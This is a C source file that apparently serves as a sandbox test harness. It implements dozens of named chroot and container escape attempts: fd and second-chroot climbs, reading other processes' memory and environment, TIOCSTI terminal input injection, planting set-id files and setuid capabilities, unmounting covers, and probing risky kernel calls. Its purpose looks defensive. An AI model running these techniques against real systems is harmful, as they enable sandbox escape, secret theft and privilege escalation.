/* Ways out of a chroot, one a name: attack NAME [ARGUMENT...].

   What an attack gets hold of it writes to stdout: the content of a file of the host, or one word for each thing that
   it could open or do. The exit status is 0 where there was something to write, 1 where everything failed, 2 for wrong
   usage. Built static: the box needs nothing else. What is opened outside of the box is not written to. */

#ifdef AS_LOADER /* built with -nostdlib: the loader of the box, which changes the program that it is to load */
void _start(void)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(90L), "D"("/proc/self/exe"), "S"(0777L) : "rcx", "r11", "memory");
    __asm__ volatile("syscall" : : "a"(231L), "D"(result ? 1L : 0L) : "rcx", "r11"); /* exit_group */
}
#else

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#ifndef SYS_openat2
#define SYS_openat2 437
#endif
#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif
#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#endif

static char **argument; /* from argument[0] on; NULL at the end */
static int got;         /* something was written */

static void say(const char *word)
{
    printf("%s\n", word);
    fflush(stdout);
    got = 1;
}

static void failed(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
}

static int number(int at)
{
    return argument[at] ? (int)strtol(argument[at], NULL, 0) : 0;
}

/* Write the content of an open file to stdout. */
static void show(int file, const char *name)
{
    char buffer[65536];
    ssize_t count = 0;
    if (file < 0) {
        failed(name);
        return;
    }
    while ((count = read(file, buffer, sizeof buffer)) > 0) {
        fwrite(buffer, 1, (size_t)count, stdout);
        got = 1;
    }
    if (count < 0)
        failed(name);
    fflush(stdout);
    close(file);
}

static void show_path(const char *path)
{
    show(open(path, O_RDONLY | O_NONBLOCK), path);
}

/* Have a /proc: the mode's own, else one that we mount. */
static void need_proc(void)
{
    if (access("/proc/self/stat", F_OK) == 0)
        return;
    mkdir("/proc", 0755);
    if (mount("proc", "/proc", "proc", 0, NULL) < 0)
        failed("mount proc");
}

/* Call something with each process's directory that can be seen, our own left out. */
static void each_process(void (*do_it)(const char *))
{
    DIR *proc;
    struct dirent *entry;
    char path[PATH_MAX];
    need_proc();
    proc = opendir("/proc");
    while (proc && (entry = readdir(proc)))
        if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid()) {
            snprintf(path, sizeof path, "/proc/%s", entry->d_name);
            do_it(path);
        }
    if (proc)
        closedir(proc);
}

/* From a directory go up as far as it goes and open the file there whose absolute path is given. */
static void climb(int directory, const char *path)
{
    struct stat here, above;
    int up, steps;
    for (steps = 0; steps < 200; steps++) {
        int file = openat(directory, path + 1, O_RDONLY | O_NOFOLLOW);
        if (file >= 0) {
            show(file, path);
            return;
        }
        up = openat(directory, "..", O_PATH | O_DIRECTORY);
        if (up < 0 || fstat(directory, &here) < 0 || fstat(up, &above) < 0
            || (here.st_dev == above.st_dev && here.st_ino == above.st_ino))
            return;
        directory = up;
    }
}

/* SECRET */
static void second_chroot(void)
{
    int kept = open("/", O_PATH | O_DIRECTORY);
    mkdir("/tmp/deeper", 0700);
    if (chroot("/tmp/deeper") < 0) {
        failed("chroot");
        return;
    }
    climb(kept, argument[0]);
}

/* NAME SECRET: from a directory of the box that is moved out when we have said "ready", the file NAME above it */
static void moved_directory(void)
{
    char line[8];
    int held = open("/moving/inner", O_PATH | O_DIRECTORY), file = -1, directory;
    puts("ready");
    fflush(stdout);
    if (!fgets(line, sizeof line, stdin))
        return;
    directory = openat(held, "..", O_PATH | O_DIRECTORY);
    if (directory < 0)
        failed("..");
    else
        file = openat(directory, argument[0], O_RDONLY);
    show(file, argument[0]);
    climb(held, argument[1]);
}

/* SECRET: from the working directory */
static void here(void)
{
    climb(open(".", O_PATH | O_DIRECTORY), argument[0]);
}

/* SECRET: through any descriptor that we were started with */
static void descriptors(void)
{
    int descriptor;
    for (descriptor = 0; descriptor < 4096; descriptor++) {
        struct stat status;
        if (fstat(descriptor, &status) < 0)
            continue;
        if (descriptor > 2)
            printf("open %d\n", descriptor), got = 1;
        if (S_ISDIR(status.st_mode))
            climb(descriptor, argument[0]);
    }
}

/* PID ADDRESS LENGTH; with PID 0 our parent */
static void trace(void)
{
    pid_t victim = number(0) ? number(0) : getppid();
    unsigned long address = strtoul(argument[1], NULL, 0);
    size_t length = (size_t)number(2);
    char path[64], buffer[4096] = "";
    struct iovec local = {buffer, length}, remote = {(void *)address, length};
    int memory;
    if (process_vm_readv(victim, &local, 1, &remote, 1, 0) == (ssize_t)length)
        say(buffer);
    else
        failed("process_vm_readv");
    need_proc();
    snprintf(path, sizeof path, "/proc/%d/mem", victim);
    memory = open(path, O_RDONLY);
    if (memory >= 0 && pread(memory, buffer, length, (off_t)address) == (ssize_t)length)
        say(buffer);
    if (ptrace(PTRACE_SEIZE, victim, 0, 0) == 0) {
        say("seized");
        ptrace(PTRACE_DETACH, victim, 0, 0);
    } else
        failed("ptrace");
}

/* PID SIGNAL: to the process; with PID 0 to our group, which we survive */
static void send_signal(void)
{
    signal(number(1), SIG_IGN);
    if (kill(number(0), number(1)) == 0)
        say("sent");
    else
        failed("kill");
}

static void try_node(const char *path, mode_t type, int major, int minor)
{
    int file;
    char byte;
    unlink(path);
    if (mknod(path, type | 0600, makedev((unsigned)major, (unsigned)minor)) < 0) {
        failed(path);
        return;
    }
    file = open(path, O_RDONLY | O_NONBLOCK);
    if (file >= 0 && read(file, &byte, 1) == 1)
        say(path);
    else
        failed(path);
    unlink(path);
}

/* b|c MAJOR MINOR: in every place where a node could be made */
static void make_node(void)
{
    mode_t type = argument[0][0] == 'b' ? S_IFBLK : S_IFCHR;
    try_node("/node", type, number(1), number(2));
    try_node("/tmp/node", type, number(1), number(2));
    try_node("/dev/node", type, number(1), number(2));
    try_node("/dev/shm/node", type, number(1), number(2));
}

/* PATH...: what can be opened, for reading and for writing */
static void open_each(void)
{
    char byte;
    for (need_proc(); *argument; argument++) {
        int file = open(*argument, O_RDONLY | O_NONBLOCK);
        if (file >= 0 && read(file, &byte, 1) == 1)
            printf("read %s\n", *argument), got = 1;
        file = open(*argument, O_WRONLY | O_NONBLOCK);
        if (file >= 0)
            printf("write %s\n", *argument), got = 1;
    }
}

static void one_root(const char *process)
{
    char path[PATH_MAX], link[PATH_MAX + 300];
    DIR *descriptors;
    struct dirent *entry;
    snprintf(path, sizeof path, "%s/root%s", process, argument[0]);
    show_path(path);
    snprintf(path, sizeof path, "%s/cwd", process);
    climb(open(path, O_PATH | O_DIRECTORY), argument[0]);
    snprintf(path, sizeof path, "%s/fd", process);
    descriptors = opendir(path);
    while (descriptors && (entry = readdir(descriptors))) {
        struct stat status;
        snprintf(link, sizeof link, "%s/%s", path, entry->d_name);
        if (entry->d_name[0] != '.' && stat(link, &status) == 0 && S_ISDIR(status.st_mode))
            climb(open(link, O_PATH | O_DIRECTORY), argument[0]);
    }
    if (descriptors)
        closedir(descriptors);
}

/* SECRET: by what /proc shows of other processes, a fresh one if one can be mounted */
static void process_roots(void)
{
    mkdir("/tmp/proc", 0700);
    if (mount("proc", "/tmp/proc", "proc", 0, NULL) == 0)
        say("mounted");
    else
        failed("mount proc");
    each_process(one_root);
}

static void one_secret(const char *process)
{
    static const char *const files[] = {"auxv", "maps", "mem", "stack", "pagemap", "io", "syscall"};
    char path[PATH_MAX], byte;
    size_t at;
    snprintf(path, sizeof path, "%s/environ", process);
    show_path(path);
    for (at = 0; at < sizeof files / sizeof *files; at++) { /* some refuse to be opened, others to be read */
        int file;
        snprintf(path, sizeof path, "%s/%s", process, files[at]);
        file = open(path, O_RDONLY);
        if (file >= 0 && (!strcmp(files[at], "mem") || read(file, &byte, 1) == 1))
            printf("read %s\n", path), got = 1;
        if (file >= 0)
            close(file);
    }
}

static void other_environments(void)
{
    each_process(one_secret);
}

static void one_program(const char *process)
{
    char path[PATH_MAX], target[PATH_MAX] = "";
    snprintf(path, sizeof path, "%s/exe", process);
    if (readlink(path, target, sizeof target - 1) > 0)
        say(target);
}

static void one_command(const char *process)
{
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/cmdline", process);
    show_path(path);
}

/* the arguments of other processes */
static void other_commands(void)
{
    each_process(one_command);
}

/* what other processes run, and the mode of our parent's, which is the launcher or PID 1, changed */
static void other_programs(void)
{
    char path[64];
    each_process(one_program);
    snprintf(path, sizeof path, "/proc/%d/exe", (int)getppid());
    if (chmod(path, 0777) < 0)
        failed(path);
}

static void sweep_directory(const char *path, int depth)
{
    DIR *directory = opendir(path);
    struct dirent *entry;
    char below[PATH_MAX];
    struct stat status;
    while (directory && (entry = readdir(directory))) {
        const char *name = entry->d_name;
        if (!strcmp(name, ".") || !strcmp(name, ".."))
            continue;
        if (depth == 0 && ((name[0] >= '0' && name[0] <= '9') || !strcmp(name, "self") || !strcmp(name, "thread-self")))
            continue;
        if (snprintf(below, sizeof below, "%s/%s", path, name) >= (int)sizeof below || lstat(below, &status) < 0)
            continue;
        if (S_ISDIR(status.st_mode))
            sweep_directory(below, depth + 1);
        else if (S_ISREG(status.st_mode)) {
            int file = open(below, O_WRONLY | O_NONBLOCK);
            if (file >= 0) {
                say(below);
                close(file);
            }
        }
    }
    if (directory)
        closedir(directory);
}

/* every file of the kernel in /proc that can be opened for writing */
static void sweep_proc(void)
{
    need_proc();
    sweep_directory("/proc", 0);
    sweep_directory("/proc/self/net", 1);
}

/* NAME: an abstract socket that gives a descriptor to whoever comes */
static void receive(void)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    char byte, control[CMSG_SPACE(sizeof(int))];
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    int connection = socket(AF_UNIX, SOCK_STREAM, 0), file;
    strncpy(address.sun_path + 1, argument[0], sizeof address.sun_path - 2);
    if (connect(connection, (struct sockaddr *)&address,
                (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argument[0]))) < 0
        || recvmsg(connection, &message, 0) < 0 || !CMSG_FIRSTHDR(&message)) {
        failed("socket");
        return;
    }
    memcpy(&file, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof file);
    show(file, "descriptor");
}

/* a socket of a family that network namespaces do not separate */
static void vsock(void)
{
    if (socket(AF_VSOCK, SOCK_STREAM, 0) >= 0)
        say("vsock");
    else
        failed("socket");
}

/* PORT: on the loopback */
static void loopback(void)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)number(0))};
    int connection = socket(AF_INET, SOCK_STREAM, 0);
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(connection, (struct sockaddr *)&address, sizeof address) < 0)
        failed("connect");
    else
        show(connection, "connection");
}

/* TYPE HEX: a file handle of this file system */
static void handle(void)
{
    struct {
        struct file_handle head;
        unsigned char bytes[MAX_HANDLE_SZ];
    } wanted;
    size_t at, length = strlen(argument[1]) / 2;
    wanted.head.handle_type = number(0);
    wanted.head.handle_bytes = (unsigned)length;
    for (at = 0; at < length; at++)
        sscanf(argument[1] + 2 * at, "%2hhx", &wanted.head.f_handle[at]);
    show(open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY), &wanted.head, O_RDONLY), "open_by_handle_at");
}

/* SECRET: the root of our own mount namespace, and what lies under it */
static void rejoin(void)
{
    int mine;
    need_proc();
    mine = open("/proc/self/ns/mnt", O_RDONLY);
    if (argument[1] && umount2("/", MNT_DETACH) < 0)
        failed("umount /");
    if (setns(mine, 0) < 0)
        failed("setns");
    else
        show_path(argument[0]);
}

/* PATH...: what stands under a cover; the covers are taken away as far as they can be */
static void uncover(void)
{
    char path[PATH_MAX];
    for (; *argument; argument++) {
        strncpy(path, *argument, sizeof path - 1);
        for (char *slash = path + strlen(path); slash && slash != path; slash = strrchr(path, '/')) {
            *slash = 0;
            while (umount2(path, MNT_DETACH) == 0)
                printf("unmounted %s\n", path), got = 1;
        }
        while (umount2(*argument, MNT_DETACH) == 0)
            printf("unmounted %s\n", *argument), got = 1;
        if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
            puts("remounted"), got = 1;
        show_path(*argument);
    }
}

static int may_write(const char *path)
{
    char file[PATH_MAX];
    int opened;
    snprintf(file, sizeof file, "%s/written", path);
    opened = open(file, O_CREAT | O_WRONLY, 0644);
    if (opened < 0)
        return 0;
    close(opened);
    unlink(file);
    return 1;
}

/* DIRECTORY...: where a file can be made, after trying to have the mount writable */
static void write_each(void)
{
    for (; *argument; argument++) {
        if (mount(NULL, *argument, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
            puts("remounted");
        if (may_write(*argument))
            say(*argument);
        else
            failed(*argument);
    }
}

/* words to be typed, with the request as it is and with a bit in the half that the kernel does not look at */
static void type(void)
{
    const char *text;
    int file, high;
    for (file = 0; file < 4; file++)
        for (high = 0; high < 2; high++)
            for (text = argument[0]; *text; text++) {
                int terminal = file < 3 ? file : open("/dev/tty", O_RDWR);
                if (syscall(SYS_ioctl, (long)terminal, (long)TIOCSTI | (long)high << 32, text) < 0) {
                    failed("TIOCSTI");
                    break;
                }
                got = 1;
            }
}

/* COLUMNS: the size of the terminal */
static void resize(void)
{
    struct winsize size = {.ws_row = 7, .ws_col = (unsigned short)number(0)};
    int file;
    for (file = 0; file < 3; file++)
        if (ioctl(file, TIOCSWINSZ, &size) == 0)
            say("resized");
}

static void fill(int file)
{
    if (file < 0)
        failed("open");
    else
        close(file);
}

/* WAY: leave a set-id file in /left */
static void set_id(void)
{
    const char *way = argument[0];
    struct {
        unsigned long flags, mode, resolve;
    } how = {O_CREAT | O_WRONLY, 04755, 0};
    int file, result = 0;
    umask(0);
    mkdir("/left", 0755);
    if (!strcmp(way, "open"))
        fill((int)syscall(SYS_open, "/left/shell", O_CREAT | O_WRONLY, 04755));
    else if (!strcmp(way, "openat"))
        fill((int)syscall(SYS_openat, AT_FDCWD, "/left/shell", O_CREAT | O_WRONLY, 02755));
    else if (!strcmp(way, "creat"))
        fill((int)syscall(SYS_creat, "/left/shell", 06755));
    else if (!strcmp(way, "openat2"))
        fill((int)syscall(SYS_openat2, AT_FDCWD, "/left/shell", &how, sizeof how));
    else if (!strcmp(way, "mknod"))
        result = (int)syscall(SYS_mknod, "/left/shell", S_IFREG | 04755, 0);
    else if (!strcmp(way, "mknodat"))
        result = (int)syscall(SYS_mknodat, AT_FDCWD, "/left/shell", S_IFREG | 04755, 0);
    else if (!strcmp(way, "tmpfile")) {
        char path[64];
        need_proc();
        file = open("/left", O_TMPFILE | O_RDWR, 04755);
        snprintf(path, sizeof path, "/proc/self/fd/%d", file);
        result = linkat(AT_FDCWD, path, AT_FDCWD, "/left/shell", AT_SYMLINK_FOLLOW);
    } else {
        file = open("/left/shell", O_CREAT | O_RDWR, 0755);
        if (!strcmp(way, "chmod"))
            result = (int)syscall(SYS_chmod, "/left/shell", 04755);
        else if (!strcmp(way, "fchmod"))
            result = (int)syscall(SYS_fchmod, file, 02755);
        else if (!strcmp(way, "fchmodat"))
            result = (int)syscall(SYS_fchmodat, AT_FDCWD, "/left/shell", 04755);
        else if (!strcmp(way, "fchmodat2"))
            result = (int)syscall(SYS_fchmodat2, AT_FDCWD, "/left/shell", 04755, 0);
#ifdef __x86_64__
        else if (!strcmp(way, "int80")) /* fchmod of i386 */
            __asm__ volatile("int $0x80" : "=a"(result) : "a"(94), "b"(file), "c"(04755) : "memory");
        else if (!strcmp(way, "x32"))
            result = (int)syscall(0x40000000 + 91, file, 04755);
#endif
        else
            exit(2);
    }
    if (result < 0)
        failed(way);
}

/* PATH: a set-id program that is there already, its content replaced */
static void replace(void)
{
    int file = open(argument[0], O_WRONLY);
    if (file < 0 || pwrite(file, "#", 1, 0) != 1)
        failed(argument[0]);
}

/* PATH: likewise, by a shared mapping */
static void replace_mapped(void)
{
    int file = open(argument[0], O_RDWR);
    char *content = file < 0 ? MAP_FAILED : mmap(NULL, 1, PROT_WRITE, MAP_SHARED, file, 0);
    if (content == MAP_FAILED)
        failed(argument[0]);
    else
        *content = '#';
}

/* PATH OTHER: a file moved over another */
static void put_over(void)
{
    if (rename(argument[0], argument[1]) < 0 && (unlink(argument[1]) < 0 || link(argument[0], argument[1]) < 0))
        failed(argument[1]);
}

/* PATH: cap_setuid, permitted and effective */
static void file_capability(void)
{
    struct vfs_cap_data data = {VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, {{1 << CAP_SETUID, 0}, {0, 0}}};
    if (setxattr(argument[0], "security.capability", &data, sizeof data, 0) < 0)
        failed("setxattr");
    else
        say("set");
}

/* MODE PATH...: modes of files that are there */
static void modes(void)
{
    char **path;
    for (path = argument + 1; *path; path++)
        if (chmod(*path, (mode_t)number(0)) == 0)
            say(*path);
        else
            failed(*path);
}

/* who we are, and what we may: effective uid, capabilities of every set, no_new_privs */
static void rights(void)
{
    struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    unsigned long long bounding = 0, ambient = 0;
    int capability;
    syscall(SYS_capget, &head, data);
    for (capability = 0; capability < 64; capability++) {
        if (prctl(PR_CAPBSET_READ, capability, 0, 0, 0) == 1)
            bounding |= 1ULL << capability;
        if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, capability, 0, 0) == 1)
            ambient |= 1ULL << capability;
    }
#define BOTH(set) ((unsigned long long)data[1].set << 32 | data[0].set)
    printf("%d %llx %llx %llx %llx %llx %d\n", (int)geteuid(), BOTH(effective), BOTH(permitted), BOTH(inheritable),
           bounding, ambient, prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    got = 1;
}

/* the ids of somebody else */
static void identities(void)
{
    gid_t group = 1;
    if (setgroups(1, &group) == 0)
        say("groups");
    if (setresgid(1, 1, 1) == 0)
        say("gid");
    if (setresuid(1, 1, 1) == 0)
        say("uid");
}

/* TYPE...: file systems that can be mounted */
static void mounts(void)
{
    for (mkdir("/tmp/mount", 0700); *argument; argument++)
        if (mount("none", "/tmp/mount", *argument, 0, NULL) == 0)
            say(*argument);
        else
            failed(*argument);
    if (mount("/", "/tmp/mount", NULL, MS_BIND, NULL) == 0)
        say("bind");
    else
        failed("bind");
    if (mount(NULL, "/tmp/mount", NULL, MS_SHARED, NULL) == 0)
        say("shared");
    if (syscall(SYS_fsopen, "tmpfs", 0) >= 0)
        say("fsopen");
    if (syscall(SYS_open_tree, AT_FDCWD, "/", 1) >= 0) /* OPEN_TREE_CLONE */
        say("open_tree");
    if (syscall(SYS_pivot_root, "/tmp/mount", "/tmp/mount") == 0)
        say("pivot_root");
}

/* new namespaces by each of the calls */
static void namespaces(void)
{
    static const struct {
        const char *name;
        int flag;
    } kinds[] = {{"user", CLONE_NEWUSER}, {"mount", CLONE_NEWNS}, {"pid", CLONE_NEWPID}, {"net", CLONE_NEWNET}};
    struct {
        unsigned long long flags, more[10];
    } how = {CLONE_NEWUSER, {0, 0, 0, SIGCHLD}};
    size_t at;
    pid_t child;
    for (at = 0; at < 4; at++) {
        child = (pid_t)syscall(SYS_clone, kinds[at].flag | SIGCHLD, 0, 0, 0, 0);
        if (child == 0)
            _exit(0);
        if (child > 0)
            printf("clone %s\n", kinds[at].name), got = 1;
        child = fork();
        if (child == 0)
            _exit(unshare(kinds[at].flag) == 0 ? 0 : 1);
        int status = -1;
        if (waitpid(child, &status, 0) == child && status == 0)
            printf("unshare %s\n", kinds[at].name), got = 1;
    }
    child = (pid_t)syscall(SYS_clone3, &how, 64);
    if (child == 0)
        _exit(0);
    if (child > 0)
        puts("clone3 user"), got = 1;
    while (wait(NULL) > 0)
        ;
}

/* DESCRIPTION: a key of our user's keyring */
static void keyring(void)
{
    char secret[256] = "";
    long key = syscall(SYS_keyctl, 10, -4, "user", argument[0], 0); /* KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING */
    if (key < 0)
        failed("keyctl");
    else if (syscall(SYS_keyctl, 11, key, secret, sizeof secret - 1) > 0) /* KEYCTL_READ */
        say(secret);
    else
        failed("keyctl read");
}

/* KEY: shared memory of System V */
static void shared_memory(void)
{
    int segment = shmget((key_t)number(0), 0, 0);
    char *text = segment < 0 ? (char *)-1 : shmat(segment, NULL, SHM_RDONLY);
    if (text == (char *)-1)
        failed("shmget");
    else
        say(text);
}

/* calls that break kernels, as far as asking for them goes */
static void calls(void)
{
    char parameters[256] = "";
    if (syscall(SYS_io_uring_setup, 1, parameters) >= 0)
        say("io_uring");
    if (syscall(SYS_bpf, 0, "\1\0\0\0\4\0\0\0\4\0\0\0\1\0\0\0\0\0\0", 16) >= 0)
        say("bpf"); /* BPF_MAP_CREATE of a hash */
    memset(parameters, 0, sizeof parameters);
    parameters[0] = 1, parameters[4] = 112; /* PERF_TYPE_SOFTWARE, the structure's size */
    if (syscall(SYS_perf_event_open, parameters, 0, -1, -1, 0) >= 0)
        say("perf");
    if (syscall(SYS_syslog, 10, NULL, 0) >= 0) /* SYSLOG_ACTION_SIZE_BUFFER */
        say("syslog");
    if (syscall(SYS_userfaultfd, 0) >= 0)
        say("userfaultfd");
}

/* WORD: a daemon that outlives us, if it can; the word is to find it by */
static void linger(void)
{
    int file;
    setsid();
    if (fork())
        _exit(0);
    for (file = 1; file < 65; file++)
        signal(file, SIG_IGN);
    prctl(PR_SET_PDEATHSIG, 0);
    for (file = 0; file < 3; file++)
        close(file);
    for (;;)
        pause();
}

static void stay(void)
{
    pid_t child = fork();
    if (child == 0)
        linger();
    waitpid(child, NULL, 0);
    say("started");
    for (;;)
        pause();
}

/* PATH: a set-id program of the box, which is us under another name */
static void become(void)
{
    execl(argument[0], argument[0], "rights", (char *)NULL);
    failed(argument[0]);
}

static void nothing(void)
{
    say("nothing");
}

int main(int count, char **words)
{
    static const struct {
        const char *name;
        void (*attack)(void);
        int least;
    } attacks[] = {
        {"second-chroot", second_chroot, 1}, {"moved-directory", moved_directory, 2}, {"descriptors", descriptors, 1}, {"here", here, 1},
        {"trace", trace, 3}, {"signal", send_signal, 2}, {"make-node", make_node, 3}, {"open", open_each, 1},
        {"process-roots", process_roots, 1}, {"other-environments", other_environments, 0},
        {"other-commands", other_commands, 0}, {"other-programs", other_programs, 0}, {"sweep-proc", sweep_proc, 0}, {"receive", receive, 1},
        {"loopback", loopback, 1}, {"vsock", vsock, 0}, {"handle", handle, 2}, {"rejoin", rejoin, 1}, {"uncover", uncover, 1},
        {"write", write_each, 1}, {"type", type, 1}, {"resize", resize, 1}, {"set-id", set_id, 1},
        {"replace", replace, 1}, {"replace-mapped", replace_mapped, 1},
        {"put-over", put_over, 2}, {"file-capability", file_capability, 1}, {"rights", rights, 0}, {"identities", identities, 0},
        {"modes", modes, 2}, {"mounts", mounts, 1}, {"namespaces", namespaces, 0}, {"keyring", keyring, 1},
        {"shared-memory", shared_memory, 1}, {"calls", calls, 0}, {"stay", stay, 1}, {"become", become, 1},
        {"nothing", nothing, 0},
    };
    size_t at;
    for (at = 0; count > 1 && at < sizeof attacks / sizeof *attacks; at++)
        if (!strcmp(words[1], attacks[at].name) && count - 2 >= attacks[at].least) {
            argument = words + 2;
            attacks[at].attack();
            fflush(stdout);
            return got ? 0 : 1;
        }
    fprintf(stderr, "no such attack\n");
    return 2;
}
#endif
